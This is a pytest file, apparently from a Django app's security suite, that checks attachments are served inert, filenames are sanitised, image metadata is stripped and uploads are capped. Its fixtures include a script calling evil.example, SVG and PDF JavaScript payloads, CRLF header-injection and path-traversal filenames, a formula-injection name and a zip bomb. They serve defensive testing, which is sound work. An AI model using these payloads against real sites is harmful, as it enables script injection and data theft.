"""Area attachments: a file is read by its audience, and does nothing to who opens it."""

import hashlib
import io
import zipfile
from datetime import timedelta

import pytest
from PIL import Image, PngImagePlugin

from seawall.domain.errors import DomainError
from seawall.domain.reports import commands
from seawall.domain.reports.commands import storing, sweeping
from seawall.domain.reports.models import Attachment
from seawall.lib import clock, thumbnails
from tests.abuse import sweep
from tests.abuse.surfaces import ask, pair
from tests.lib.shared_cases import shared_cases

pytestmark = [pytest.mark.django_db, pytest.mark.promise("P1", "P11")]

RANGES = (
    {"Range": "bytes=0-3"},
    {"If-None-Match": '"x"'},
    {"If-Modified-Since": "Thu, 01 Jan 2099 00:00:00 GMT"},
    {"Referer": "http://testserver/reports/R-000000"},
    {"Accept": "text/html"},
)


@pytest.mark.parametrize("actor", ["R2", "anonymous", "C1"])
def test_ac_017_a_file_of_others_is_not_there_by_any_route(world, actor):
    """For C1 the team's file; also by pieces, by date, and from a page that links it."""
    hidden = world.id("F-x1team" if actor == "C1" else "F-x1")
    faults = []
    for one in sweep.addresses(world):
        if one.kind != "file":
            continue
        for headers in RANGES:
            for surface in ("page", "HEAD"):
                faults += pair(
                    world, actor, one.path, hidden, world.id("F0"), headers=headers, surface=surface
                )

    assert not faults, "\n".join(faults)


def test_ac_017_a_link_alone_opens_nothing(world):
    path = f"/files/{world.id('F-x1')}"

    assert ask(world, "R1", path).status == 200
    assert ask(world, "anonymous", path).is_refused
    assert ask(world, "anonymous", f"/api/v1/attachments/{world.id('F-x1')}").status == 401


def _hostile():
    script = b"<script>fetch('//evil.example')</script>"
    return {
        "page.html": b"<!doctype html>" + script,
        "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "feed.xml": b"<?xml-stylesheet href='x.xsl'?><a/>",
        "paper.pdf": b"%PDF-1.4 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "code.js": b"alert(1)",
        "movie.swf": b"FWS\x06",
        "picture.png": b"<html>" + script,
        "real.png": b"\x89PNG\r\n\x1a\n<html>" + script,
        "wild.bin": bytes(range(256)),
    }


def _is_inert(answer, size: int) -> bool:
    headers = answer.headers
    return (
        headers["Content-Type"] == "application/octet-stream"
        and headers["Content-Disposition"].startswith("attachment")
        and headers["X-Content-Type-Options"] == "nosniff"
        and headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
        and headers["Cache-Control"] == "no-store"
        and headers["Content-Length"] == str(size)
    )


def _attach(world, name: str, content: bytes) -> Attachment:
    return commands.attach_bytes(
        world.id("X1"), name=name, content=content, actor=world.actor("R1")
    )


@pytest.mark.parametrize("name", _hostile())
def test_ac_019_whatever_it_is_it_is_only_saved(world, name):
    content = _hostile()[name]
    row = _attach(world, name, content)
    for path in (f"/files/{row.public_id}", f"/api/v1/attachments/{row.public_id}"):
        assert _is_inert(ask(world, "T1", path), len(content)), path
    assert ask(world, "T1", f"/files/{row.public_id}/thumbnail").status == 404


def test_ac_019_the_shared_uploads_are_only_saved(world, shared):
    cases = shared_cases("uploads/dev.manifest.jsonl")
    folder = shared / "data" / "uploads"
    wrong = []
    for case in cases:
        content = (folder / case["file"]).read_bytes()
        try:
            row = _attach(world, case["client_name"], content)
        except DomainError:
            continue
        answer = ask(world, "T1", f"/files/{row.public_id}")
        if answer.status != 200 or not _is_inert(answer, len(content)):
            wrong.append((case["client_name"], answer.headers))

    assert wrong == []


def test_ac_020_what_is_taken_away_is_gone_with_the_next_request(world):
    file = Attachment.objects.get(report=world.report("D1"))
    path = f"/files/{file.public_id}"
    before = ask(world, "R1", path)
    commands.remove_attachment(file.public_id, actor=world.actor("R1"))

    assert before.status == 200
    assert "ETag" not in before.headers
    for headers in RANGES:
        for surface in ("page", "HEAD"):
            answer = ask(world, "R1", path, headers=headers, surface=surface)
            assert answer.status == 404
            assert answer.headers["Cache-Control"] == "no-store"
    assert pair(world, "R1", "/files/{}", file.public_id, world.id("F0")) == []


def _saved(picture: Image.Image, kind: str, **options) -> bytes:
    file = io.BytesIO()
    picture.save(file, kind, **options)
    return file.getvalue()


def _pictures() -> dict[str, bytes]:
    plain = Image.new("RGB", (40, 30), "red")
    said = PngImagePlugin.PngInfo()
    said.add_text("profile", "/etc/passwd")
    said.add_text("Comment", "canary-metadata")
    where = Image.Exif()
    where[0x010E] = "canary-metadata"
    where.get_ifd(0x8825)[2] = (52.0, 30.0, 0.0)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as inside:
        inside.writestr("canary-metadata", "x")
    return {
        "text chunks": _saved(plain, "PNG", pnginfo=said),
        "place": _saved(plain, "JPEG", exif=where),
        "archive behind": _saved(plain, "PNG") + archive.getvalue(),
    }


@pytest.mark.parametrize("name", _pictures())
def test_ac_021_a_picture_is_made_anew_and_the_evidence_is_kept(world, name):
    content = _pictures()[name]
    made = thumbnails.thumbnail(io.BytesIO(content))
    row = _attach(world, "picture.png", content)
    kept = ask(world, "T1", f"/files/{row.public_id}")

    assert made is not None
    picture = Image.open(io.BytesIO(made))
    assert picture.format == "WEBP"
    assert dict(picture.getexif()) == {}
    assert b"canary-metadata" not in made
    assert b"root:" not in made
    assert kept.headers["Content-Length"] == str(len(content))
    assert row.sha256 == hashlib.sha256(content).hexdigest()


@pytest.mark.parametrize("kind", ["TIFF", "BMP", "EPS"])
def test_ac_021_other_formats_are_not_decoded(kind):
    content = _saved(Image.new("RGB", (8, 8)), kind)

    assert thumbnails.thumbnail(io.BytesIO(content)) is None


NAMES = [
    "../../x",
    "a\\..\\b",
    "\u202egpj.exe",
    "a\x00b",
    "a\r\nSet-Cookie: x=1",
    "   ",
    "n" * 5000,
    "CON",
    "=cmd()",
    "🦀.txt",
    "..",
    "\ud800.txt",
    'q"uote.txt',
    "%0d%0aX: y",
    ".htaccess",
]


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_ac_022_a_name_is_only_shown(world, name):
    row = _attach(world, name, b"x")
    answer = ask(world, "T1", f"/files/{row.public_id}")
    told = answer.headers["Content-Disposition"]
    pages = [
        ask(world, actor, path).status
        for actor in ("R1", "T1")
        for path in (f"/reports/{world.id('X1')}", f"/api/v1/reports/{world.id('X1')}")
    ]

    assert (answer.status, pages) == (200, [200] * 4)
    assert 0 < len(row.name) <= 200
    assert not set(row.name) & set('/\\\r\n\x00\u202e"')
    assert row.name.strip(". ")
    assert told.startswith("attachment; filename")
    assert not set(told) & set("\r\n\x00\u202e")
    assert "Set-Cookie" not in answer.headers


def test_ac_024_uploads_have_an_end_before_the_disk_has(world, settings):
    number, mine = world.id("D1"), world.actor("R1")
    begun = []
    for _each in range(500):
        try:
            begun.append(
                commands.begin_upload(number, name="big.bin", size_bytes=10_000_000, actor=mine)
            )
        except DomainError:
            break
    assert 0 < len(begun) <= 20

    settings.REPORT_BYTES = 1000
    with pytest.raises(DomainError):
        commands.attach_bytes(number, name="a.bin", content=b"x" * 2000, actor=mine)
    settings.REPORT_BYTES = 10_000_000
    kept = 0
    for each in range(20_000):
        try:
            commands.attach_bytes(number, name=f"{each}", content=b"x", actor=mine)
        except DomainError:
            break
        kept += 1
    assert kept < 1000
    assert commands.attach_bytes(
        world.id("X2"), name="other.txt", content=b"x", actor=world.actor("R2")
    )


def test_ac_024_what_was_begun_and_left_is_swept(world, monkeypatch):
    later = clock.now() + timedelta(days=2)
    state = commands.begin_upload(
        world.id("D1"), name="left.bin", size_bytes=10, actor=world.actor("R1")
    )
    assert storing.parts().offset(state.id) == 0
    monkeypatch.setattr(clock, "now", lambda: later)
    sweeping.sweep_uploads()

    with pytest.raises(FileNotFoundError):
        storing.parts().offset(state.id)


def test_ac_024_an_archive_is_never_opened(world):
    """A bomb is a file like any other: stored as it is, no picture, no look inside."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as inside:
        inside.writestr("zeros", b"\0" * 10_000_000)
    content = archive.getvalue()
    row = _attach(world, "bomb.zip", content)

    assert row.size_bytes == len(content) < 20_000
    assert row.thumbnail_state == "none"
